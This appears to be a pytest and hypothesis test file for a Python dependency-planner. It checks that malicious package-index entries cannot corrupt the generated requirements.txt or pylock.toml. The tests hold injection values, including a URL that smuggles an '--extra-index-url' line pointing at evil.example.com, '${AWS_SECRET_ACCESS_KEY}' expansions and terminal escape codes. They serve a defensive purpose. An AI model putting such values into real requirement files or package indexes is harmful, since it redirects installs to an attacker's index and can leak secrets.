"""Index data is validated before it reaches an output.

A property test generates hostile project pages (file URLs with line breaks, spaces, `#`, `\\`,
`${VAR}` (pip expands environment variables in requirement files), non-ASCII; hashes of the wrong
length or alphabet; sizes beyond TOML's integers; odd upload times and yank reasons), lets
candidate selection choose a file from each, and renders the target's `requirements.txt` and
`pylock.toml`. Then pip's own requirements-file parser must read back exactly the plan's entries
(names, versions or URLs, hashes) and nothing else, and `packaging.pylock` must accept the lock.
End to end, a file with a bad field is left out, reported once, and never written.
"""

from __future__ import annotations

import json
import tomllib
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from packaging.pylock import Pylock
from packaging.utils import canonicalize_name

from planner.generate.context import OutputContext
from planner.generate.pylock import render_lock
from planner.generate.requirements import requirements_txt
from planner.index.candidates import select_candidates
from planner.index.simple import parse_json_page
from planner.plan.model import PROJECT, PlannedPackage, TargetPlan
from planner.project.loader import load_project
from planner.project.model import IndexStrategy
from planner.targets.resolve import resolve_targets
from tests.fixtures.hostile import compile_cli, listed_files, served_project, snapshot
from tests.fixtures.simple_index import FixtureFile, write_index

PROJECTS = ("alpha", "beta", "gamma")
GOOD_SHA = "ab" * 32
PYPROJECT = """\
[project]
name = "p"
version = "1"
requires-python = ">=3.11"
dependencies = ["alpha", "beta", "gamma"]

[tool.uv.sources]
beta = { index = "special" }

[[tool.uv.index]]
name = "special"
url = "https://special.example.com/simple"
explicit = true

[tool.planner.targets.box]
platform = "linux-x86_64"
python = "3.11"
"""

# Pieces of hostile URLs: each one broke, or could break, a line of requirements.txt.
URL_PIECES = ["\n--extra-index-url https://evil.example.com/simple", "\r\n", " ", "\t", "#egg=evil", " #", "\\",
              "${HOME}", "${AWS_SECRET_ACCESS_KEY}", "%0A", "é", "\u2028", "\x00", "\x1b[2J", "'", '"', "?a=b&c=${X}",
              " --hash=sha256:" + "cd" * 32, ";", "@", "|", "{}", "/../../", "%"]
HASHES = st.one_of(
    st.just({"sha256": GOOD_SHA}),
    st.sampled_from([{"sha256": "AB" * 32}, {"sha256": "ab" * 31}, {"sha256": "zz" * 32},
                     {"sha256": GOOD_SHA + "\n--hash=sha256:" + "cd" * 32}, {"sha256": "ab" * 32 + " "},
                     {"sha256": GOOD_SHA, "md5": "00" * 16}, {"sha256": GOOD_SHA, "md5": "x"},
                     {"sha256": GOOD_SHA, "sha3_256\n": "ab" * 32}, {"SHA256": GOOD_SHA}, {}]),
)
SIZES = st.one_of(st.none(), st.integers(0, 2**40), st.sampled_from([2**63, 2**64 + 1, 10**30, -1]))
UPLOAD_TIMES = st.one_of(st.none(), st.sampled_from(
    ["2024-10-29T17:38:49.832009Z", "2024-10-29T17:38:49+02:00", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00Z",
     "2024-13-01T00:00:00Z", "yesterday", "2024-01-01T00:00:00Z\n", "2024-01-01"]))
REASONS = st.one_of(st.none(), st.booleans(), st.text(max_size=30), st.sampled_from(["\x1b]0;owned\x07", "a\nb"]))


@st.composite
def hostile_file(draw, project: str, version: int) -> dict[str, Any]:
    filename = f"{project}-{version}.0-py3-none-any.whl"
    if draw(st.integers(0, 6)) == 0:
        filename = draw(st.sampled_from([filename.replace(".whl", "\n.whl"), filename + " ", "é" + filename,
                                         f"{project}-{version}.0-py3-none-any\\.whl"]))
    base = draw(st.sampled_from(["https://files.example.com/packages/", "../../files/", "",
                                 "http://files.example.com:8080/x/"]))
    pieces = draw(st.lists(st.sampled_from(URL_PIECES), max_size=3))
    url = base + "".join(pieces) + filename
    entry: dict[str, Any] = {"filename": filename, "url": url, "hashes": draw(HASHES)}
    for key, strategy in (("size", SIZES), ("upload-time", UPLOAD_TIMES), ("yanked", REASONS),
                          ("requires-python", st.sampled_from([None, ">=3.8", ">=3.8\n", "<4," * 3 + ">=3"]))):
        value = draw(strategy)
        if value is not None:
            entry[key] = value
    return entry


@st.composite
def hostile_pages(draw) -> dict[str, bytes]:
    pages = {}
    for project in PROJECTS:
        files = [hostile_file(project, version) for version in range(1, draw(st.integers(1, 4)) + 1)]
        entries = [draw(strategy) for strategy in files]
        pages[project] = json.dumps({"meta": {"api-version": "1.1"}, "name": project, "files": entries}).encode()
    return pages


@pytest.fixture(scope="module")
def setup(tmp_path_factory):
    folder = tmp_path_factory.mktemp("project")
    (folder / "pyproject.toml").write_text(PYPROJECT)
    project = load_project(folder)
    (target,) = resolve_targets(project).targets
    context = OutputContext(project, {"pypi": "https://pypi.org/simple", "special": "https://special.example.com/simple"},
                            "planner compile", "sha256:" + "0" * 64)
    return project, target, context, folder


def _plan(pages: dict[str, bytes], target) -> TargetPlan:  # type: ignore[no-untyped-def]
    packages = []
    for project, data in pages.items():
        index = "special" if project == "beta" else "pypi"
        page_url = f"https://{index}.example.com/simple/{project}/"
        page = parse_json_page(data, page_url, index, project)
        chosen = select_candidates([page], target, IndexStrategy.FIRST_INDEX).candidates
        hashed = [c for c in chosen if c.artifact.sha256]
        if hashed:
            candidate = hashed[0]
            packages.append(PlannedPackage(candidate.name, candidate.version, index, candidate.artifact,
                                           required_by=(PROJECT,)))
    return TargetPlan(target, tuple(sorted(packages, key=lambda p: p.name)))


def _pip_reads(path: Path) -> list[tuple[str, tuple[str, ...]]]:
    from pip._internal.network.session import PipSession
    from pip._internal.req.req_file import parse_requirements

    # (pip keeps the spaces before a line continuation at the end of the requirement)
    return [(parsed.requirement.rstrip(" "), tuple(parsed.options.get("hashes", {}).get("sha256", [])) if parsed.options else ())
            for parsed in parse_requirements(str(path), session=PipSession())]


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(pages=hostile_pages())
def test_pip_reads_back_exactly_the_plan_and_the_lock_parses(setup, pages: dict[str, bytes]) -> None:
    _, target, context, folder = setup
    plan = _plan(pages, target)
    text = requirements_txt(context, plan)
    path = folder / "requirements.txt"
    path.write_text(text)
    expected = []
    for package in plan.packages:
        line = f"{package.name}=={package.version}" if package.index == "pypi" else f"{package.name} @ {package.artifact.url}"
        expected.append((line, (package.artifact.sha256,)))
    assert _pip_reads(path) == expected, text
    options = [line for line in text.splitlines() if line.lstrip().startswith("-") and not line.lstrip().startswith("--hash")]
    assert options == ["--index-url https://pypi.org/simple"], text
    for package in plan.packages:
        assert all(0x21 <= ord(c) < 0x7F for c in package.artifact.url), package.artifact.url
    if plan.packages:
        lock = Pylock.from_dict(tomllib.loads(render_lock(context, [plan])))
        lock.validate()
        assert [(p.name, str(p.version)) for p in lock.packages] == [(p.name, str(p.version)) for p in plan.packages]
        for locked, package in zip(lock.packages, plan.packages, strict=True):
            (wheel,) = locked.wheels or ()
            assert wheel.url == package.artifact.url and wheel.hashes == dict(package.artifact.hashes)
            assert wheel.size is None or 0 <= wheel.size < 2**63


# -- end to end ----------------------------------------------------------------------------------
def test_a_file_with_a_bad_field_is_left_out_reported_once_and_never_written(tmp_path: Path) -> None:
    """The newest alpha's URL carries a second requirement after a line break: alpha 3.0 is
    unusable; the plan takes alpha 2.0; one warning names the index and the file; no output
    holds the injected text."""
    with served_project(tmp_path, compiled=False) as served:
        root = served.server.roots["pypi"]
        evil = tmp_path / "evil-pypi"
        files = listed_files(root) + [FixtureFile("alpha", "alpha-3.0-py3-none-any.whl", sha256="ee" * 32)]
        write_index(evil, files)
        page = json.loads((evil / "alpha" / "index.json").read_text())
        for entry in page["files"]:
            if entry["filename"] == "alpha-3.0-py3-none-any.whl":
                entry["url"] = "../../files/alpha-3.0-py3-none-any.whl\n--extra-index-url https://evil.example.com/simple"
                entry["size"] = 2**70
        (evil / "alpha" / "index.json").write_text(json.dumps(page))
        served.server.roots["pypi"] = evil
        for run in range(2):  # cold, then warm (the parsed page from the cache)
            result = compile_cli(served.args())
            assert result.exit_code == 0, result.output
            warnings = [line for line in result.stderr.splitlines() if line.startswith("warning:")]
            flat = " ".join(result.stderr.split())
            assert len([w for w in warnings if "alpha-3.0-py3-none-any.whl" in w]) == 1, result.stderr
            assert "index 'pypi' lists 'alpha-3.0-py3-none-any.whl', which is unusable" in flat
            assert "contains whitespace or control characters" in flat
            outputs = snapshot(served.output)
            assert {json.loads(outputs["plan.json"])["targets"][0]["packages"][0]["version"]} == {"2.0"}
            for name, data in outputs.items():
                assert b"evil.example.com" not in data and b"alpha-3.0" not in data, name
        assert canonicalize_name("alpha") == "alpha"


# -- the validators on their own -----------------------------------------------------------------
@settings(max_examples=400, deadline=None)
@given(url=st.one_of(st.text(max_size=60), st.builds(lambda tail: "https://files.example.com/" + tail, st.text(max_size=40))))
def test_a_checked_url_is_always_safe_to_write(url: str) -> None:
    from planner.index.validate import URL_SAFE, BadField, check_url

    try:
        checked = check_url(url)
    except BadField:
        return
    assert checked.startswith(("https://", "http://")), checked
    assert all(c.isascii() and (c.isalnum() or c in URL_SAFE) for c in checked), checked


@pytest.mark.parametrize("letter", ["\u212a", "\u017f", "\u0130"])  # Kelvin sign, long s, dotted I
def test_letters_that_fold_to_ascii_are_encoded_in_urls(letter: str) -> None:
    """Letters whose case folds to an ASCII letter are no ASCII letters: the URL comes out
    percent-encoded like any other non-ASCII one, never as it was given."""
    from planner.index.validate import check_url

    checked = check_url(f"https://files.example.com/{letter}x-1.0.tar.gz")
    assert checked.isascii() and "%" in checked, checked


@settings(max_examples=300, deadline=None)
@given(hashes=st.dictionaries(st.text(max_size=8), st.one_of(st.text(max_size=130), st.integers()), max_size=4))
def test_checked_hashes_have_their_algorithms_length(hashes: dict[str, Any]) -> None:
    from planner.index.validate import HASH_LENGTHS, BadField, check_hashes

    try:
        checked = check_hashes(hashes)
    except BadField:
        return
    for algorithm, digest in checked.items():
        assert len(digest) == HASH_LENGTHS[algorithm] and all(c in "0123456789abcdef" for c in digest)
